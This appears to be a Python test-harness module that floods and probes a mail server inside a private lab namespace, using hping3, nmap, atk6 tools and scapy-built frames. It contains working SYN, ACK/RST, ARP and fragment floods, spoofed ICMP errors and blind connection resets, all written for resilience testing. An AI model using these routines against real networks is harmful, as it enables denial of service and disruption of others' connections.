"""What a hostile neighbour does, for e2e_attack: tools from Debian and frames made with scapy.

Each attack is a function of the laboratory, runs in the namespace `foe`, and ends by itself: its
packets are counted, its tools have a time limit. Addresses are from the private network's ranges
only. Frames are made before they are sent, so that Python's speed is that of send() alone.
"""
import errno
import random
import socket
import subprocess
import time

from network import NEAR, WEIR, WEIR6, inside, sh

FOE, FOE6 = "198.18.0.66", "2001:2:0:1::66"
TOOL_SECONDS = 5      # for each tool
FLOOD_SECONDS = 3
PACE = 15_000         # frames a second, so that one core is left for those who send mail


def prepare(lab):
    """The namespace, and no RST from its kernel: it knows nothing of the connections we invent."""
    lab.network.cable("foe", "eth0", FOE, FOE6)
    sh(*inside("foe", "nft", """
        table inet mute {
            chain leaving { type filter hook output priority 0; tcp flags & rst == rst drop; }
        }"""))


def tool(*command):
    """One of Debian's tools, ended after TOOL_SECONDS if it has not ended by itself."""
    subprocess.run(inside("foe", "timeout", "-k", "1", str(TOOL_SECONDS), *command),
                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                   timeout=TOOL_SECONDS + 10)


def frames_send(frames, seconds=FLOOD_SECONDS, pace=PACE):
    """Sends the frames in turn at `pace` for so long a time; returns how many."""
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(("eth0", 0))
        begin = time.monotonic()
        while (now := time.monotonic() - begin) < seconds:
            while sent < now * pace:
                try:
                    s.send(frames[sent % len(frames)])
                except OSError as error:
                    if error.errno in (errno.ENOBUFS, errno.EAGAIN):
                        break  # the queue is full
                    raise
                sent += 1
            time.sleep(0.001)
    return sent


def weir_mac():
    subprocess.run(["ping", "-c", "1", "-W", "1", WEIR], stdout=subprocess.DEVNULL, check=False)
    for line in sh("ip", "neigh", "show", WEIR).split("\n"):
        if "lladdr" in line:
            return line.split("lladdr ")[1].split()[0]
    raise RuntimeError("weir does not answer ping")


def scapy():
    """Imported late: it takes a second, and looks at the interfaces of the thread's namespace."""
    import scapy.all as module
    module.conf.verb = 0
    return module


def frames_of(make, count, seed=1):
    """`count` frames to weir's MAC: make(scapy, random) is what they carry."""
    s, rnd, mac = scapy(), random.Random(seed), weir_mac()
    return [bytes(s.Ether(dst=mac) / make(s, rnd)) for _ in range(count)]


def far_address(rnd):
    """Not on the link: answers to it go to the gateway, which drops them."""
    return f"198.19.{rnd.randrange(128, 256)}.{rnd.randrange(1, 255)}"


# ---- the attacks

def syn_flood_one_source(_):
    tool("hping3", "-q", "-S", "-p", "25", "-i", "u50", "-c", "60000", WEIR)


def syn_flood_many_sources(_):
    def make(s, rnd):
        return s.IP(src=far_address(rnd), dst=WEIR) / s.TCP(
            sport=rnd.randrange(1024, 65536), dport=25, flags="S", seq=rnd.getrandbits(32),
            options=[("MSS", 1460), ("SAckOK", b""), ("WScale", 7)])
    frames_send(frames_of(make, 1500))


def ack_and_reset_flood(_):
    def make(s, rnd):
        return s.IP(src=far_address(rnd), dst=WEIR) / s.TCP(
            sport=rnd.randrange(1024, 65536), dport=25, flags=rnd.choice(("A", "R", "RA", "FA", "PA")),
            seq=rnd.getrandbits(32), ack=rnd.getrandbits(32))
    frames_send(frames_of(make, 1500))


def scans(_):
    for kind in ("-sS", "-sN", "-sF", "-sX", "-sA", "-sU"):
        tool("nmap", "-n", "-Pn", kind, "-p", "1-400", "--max-retries", "0", "--max-rate", "4000",
             "--host-timeout", "1s", WEIR)
    tool("nmap", "-n", "-Pn", "-f", "-sS", "-p", "20-30", "--host-timeout", "1s", WEIR)
    tool("nmap", "-n", "-6", "-Pn", "-sS", "-p", "1-200", "--host-timeout", "1s", WEIR6)


def odd_segments(_):
    """LAND, martians, every set of flags, options that lie, lengths that lie."""
    def make(s, rnd):
        source = rnd.choice((FOE, WEIR, "127.0.0.1", "0.0.0.0", "224.0.0.1", "198.18.0.255"))
        packet = s.IP(src=source, dst=WEIR, ttl=rnd.randrange(1, 256)) / s.TCP(
            sport=rnd.choice((25, 0, rnd.randrange(65536))), dport=rnd.choice((25, 465, 0, 7777)),
            flags=rnd.randrange(256), seq=rnd.getrandbits(32), ack=rnd.getrandbits(32),
            urgptr=rnd.getrandbits(16), dataofs=rnd.choice((None, 5, 15, rnd.randrange(16))))
        packet = bytes(packet / rnd.randbytes(rnd.choice((0, 1, 40, 700))))
        cut = rnd.choice((0, 0, 0, 1, 10, 30))
        return s.Raw(packet[:len(packet) - cut]) if cut else s.Raw(packet)
    s, mac = scapy(), weir_mac()
    rnd = random.Random(2)
    own = s.get_if_hwaddr("eth0")  # a bridge takes no frame without a source
    frames_send([bytes(s.Ether(dst=mac, src=own, type=0x0800) / make(s, rnd)) for _ in range(1500)])


def fragments(_):
    """Tiny, overlapping and endless ones."""
    def make(s, rnd):
        return s.IP(src=FOE, dst=WEIR, id=rnd.randrange(64), flags=rnd.choice(("MF", 0)),
                    frag=rnd.choice((0, 1, 2, 3, 100, 8189)), proto=rnd.choice((6, 1, 17))) / \
            s.Raw(rnd.randbytes(rnd.choice((8, 16, 24, 1000))))
    frames_send(frames_of(make, 1500))


def extension_headers(_):
    def make(s, rnd):
        packet = s.IPv6(src=FOE6, dst=WEIR6)
        for _ in range(rnd.randrange(1, 12)):
            packet /= rnd.choice((s.IPv6ExtHdrDestOpt, s.IPv6ExtHdrHopByHop, s.IPv6ExtHdrRouting,
                                  s.IPv6ExtHdrFragment))()
        return packet / s.TCP(sport=rnd.randrange(1024, 65536), dport=25, flags="S")
    frames_send(frames_of(make, 1000))


def neighbour_floods(_):
    def make(s, rnd):
        return s.ARP(op=2, psrc=f"198.18.0.{rnd.randrange(100, 255)}", pdst=WEIR,
                     hwsrc=":".join(f"{rnd.randrange(0, 256, 2):02x}" for _ in range(6)))
    frames_send(frames_of(make, 1500))
    tool("atk6-flood_advertise6", "eth0", WEIR6)
    tool("atk6-flood_solicitate6", "eth0", WEIR6)


def icmp_lies(_):
    """Errors about connections that do not exist, and about the mail's, with wrong numbers."""
    def make(s, rnd):
        quoted = s.IP(src=WEIR, dst=NEAR) / s.TCP(sport=25, dport=rnd.randrange(32768, 61000),
                                                  seq=rnd.getrandbits(32))
        return s.IP(src=FOE, dst=WEIR) / s.ICMP(
            type=rnd.choice((3, 3, 11, 12, 4)), code=rnd.randrange(16), nexthopmtu=68) / \
            s.Raw(bytes(quoted)[:28])
    frames_send(frames_of(make, 1500))


def blind_resets(lab):
    """Segments that name the sender's own connections, with numbers all over the sequence space."""
    ports = lab.victim_ports()
    def make(s, rnd):
        return s.IP(src=NEAR, dst=WEIR) / s.TCP(
            sport=rnd.choice(ports), dport=25, flags=rnd.choice(("R", "RA", "S", "SA", "PA")),
            seq=rnd.getrandbits(32), ack=rnd.getrandbits(32)) / s.Raw(b"QUIT\r\n")
    frames_send(frames_of(make, 3000))


ATTACKS = (
    ("a SYN flood from one source", syn_flood_one_source),
    ("a SYN flood from many sources", syn_flood_many_sources),
    ("a flood of ACK, RST and FIN from nowhere", ack_and_reset_flood),
    ("port scans of all kinds", scans),
    ("odd flags, LAND, martians, lengths that lie", odd_segments),
    ("fragments: tiny, overlapping, endless", fragments),
    ("chains of IPv6 extension headers", extension_headers),
    ("floods of ARP and neighbour discovery", neighbour_floods),
    ("ICMP errors about connections that are not theirs", icmp_lies),
    ("blind resets, SYNs and data into open connections", blind_resets),
)
